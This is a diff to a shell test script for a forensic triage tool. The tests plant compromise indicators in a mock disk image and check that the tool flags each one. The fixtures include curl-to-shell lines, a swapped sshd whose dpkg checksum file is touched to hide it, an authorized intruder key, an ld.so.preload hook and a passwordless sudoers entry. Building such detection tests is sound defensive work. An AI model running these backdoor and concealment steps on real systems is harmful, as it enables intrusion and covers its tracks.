@@ -228,6 +228,21 @@ mkdir -p "$I/usr/bin" "$I/usr/share/doc/tool" "$I/var/lib/dpkg/info"
 printf '#!/bin/sh\necho tool\n' >"$I/usr/bin/tool"
 echo 'a tool' >"$I/usr/share/doc/tool/README"
 (cd "$I" && md5sum usr/bin/tool usr/share/doc/tool/README) >"$I/var/lib/dpkg/info/tool.md5sums"
+echo /usr/bin/tool >"$I/var/lib/dpkg/info/tool.list"
+# and openssh-server, whose sshd is swapped below and its checksums touched to hide it
+mkdir -p "$I/usr/sbin"
+printf '#!/bin/sh\necho sshd\n' >"$I/usr/sbin/sshd"
+(cd "$I" && md5sum usr/sbin/sshd) >"$I/var/lib/dpkg/info/openssh-server.md5sums"
+echo /usr/sbin/sshd >"$I/var/lib/dpkg/info/openssh-server.list"
+# dpkg.log as dpkg writes it (after the files, in the image's zone), rotated: the unpack
+# of tool is only in dpkg.log.2.gz, read through libarchive
+mkdir -p "$I/var/log"
+echo Etc/UTC >"$I/etc/timezone"
+now=$(date -u '+%F %T')
+printf '%s\n' "$now install tool:amd64 <none> 1.0" "$now status unpacked tool:amd64 1.0" | gzip >"$I/var/log/dpkg.log.2.gz"
+printf '%s\n' "$now configure tool:amd64 1.0 <none>" >"$I/var/log/dpkg.log.1"
+printf '%s\n' "$now install openssh-server:amd64 <none> 1:9.2p1-2" \
+        "$now status unpacked openssh-server:amd64 1:9.2p1-2" "$now trigproc man-db:amd64 2.11 <none>" >"$I/var/log/dpkg.log"
 # links that would leave the image if they were followed on the host
 ln -s /etc/sudoers "$I/etc/sudoers.d/zz-link"
 ln -s ../../../../../../../../../etc/passwd "$I/etc/sudoers.d/zz-rel"
@@ -242,6 +257,9 @@ cat "$W/intruder.pub" >>"$I/root/.ssh/authorized_keys"
 echo /usr/lib/x86_64-linux-gnu/libhook.so >"$I/etc/ld.so.preload"
 printf '#!/bin/sh\ncurl -s http://127.0.0.1:9/k | sh\n' >"$I/usr/bin/tool"
 chmod 0755 "$I/usr/bin/tool"
+sleep 1.1 # three seconds past the logged unpack: beyond the log-to-ctime slack
+printf '#!/bin/sh\ncurl -s http://127.0.0.1:9/k | sh\n' >"$I/usr/sbin/sshd"
+chmod 644 "$I/var/lib/dpkg/info/openssh-server.md5sums"
 echo 'alice ALL=(ALL) NOPASSWD: ALL' >"$I/etc/sudoers.d/90-alice"
 printf '%s\n' '+ make' '+ curl -fsSL http://127.0.0.1:9/setup.sh | bash' >"$I/var/lib/jenkins/jobs/app/builds/7/log"
 
@@ -268,7 +286,14 @@ expect_eq "curl|bash in a Jenkins build log is flagged" true \
         "$(has_rule triage.ci-download-exec "f['evidence']['line_number'] == 2")"
 expect_eq "a packaged executable changed after install is an integrity finding" true \
         "$(has_rule triage.package-modified "f['category'] == 'integrity' and f['severity'] == 'high' and f['evidence']['files'] == ['/usr/bin/tool']")"
-expect_eq "the untouched packaged file was not hashed (its ctime predates the checksums)" "1 1" \
+expect_eq "a touched .md5sums after a swapped binary is flagged against dpkg.log" true \
+        "$(has_rule triage.dpkg-info-tampered "f['evidence']['file'] == '/var/lib/dpkg/info/openssh-server.md5sums' and f['category'] == 'anti-forensics'")"
+expect_eq "and the swapped binary it hid is reported" true \
+        "$(has_rule triage.package-modified "f['evidence']['files'] == ['/usr/sbin/sshd']")"
+expect_eq "the checksum files dpkg.log accounts for are not flagged (tool's unpack only in dpkg.log.2.gz)" \
+        "1 Etc/UTC 3" \
+        "$(json "$W/disk/packages.json" "'%d %s %d' % (d['info_files_tampered'], d['dpkg_log']['timezone'], len(d['dpkg_log']['read']))")"
+expect_eq "the untouched packaged file was not hashed (its ctime predates the checksums)" "2 1" \
         "$(json "$W/disk/packages.json" "'%d %d' % (d['files_hashed'], d['files_unchanged_since_install'])")"
 expect_eq "PermitRootLogin yes is flagged" true "$(has_rule triage.sshd-root-login "f['category'] == 'exposure'")"
 expect_eq "a symlink in the image resolves inside the image, not on the host" "root ALL=(ALL:ALL) ALL" \
@@ -315,7 +340,7 @@ RC=0
 "$BUILDWARD" triage diff "$W/disk2" "$W/disk2" >"$W/diff0.out" 2>&1 || RC=$?
 expect_rc "triage diff of a bundle with itself exits 0" 0
 "$BUILDWARD" triage --root "$I" --out "$W/disk3" --baseline "$W/disk2" --hash-all >"$W/base.out" 2>&1
-expect_eq "--hash-all hashes every packaged file" 2 "$(json "$W/disk3/packages.json" "d['files_hashed']")"
+expect_eq "--hash-all hashes every packaged file" 3 "$(json "$W/disk3/packages.json" "d['files_hashed']")"
 expect_match "--baseline prints the changes after the capture" "changes since '.*disk2':" "$(cat "$W/base.out")"
 RC=0
 "$BUILDWARD" triage diff "$W/disk/findings.json" "$W/disk2" >"$W/diff-file.out" 2>&1 || RC=$?
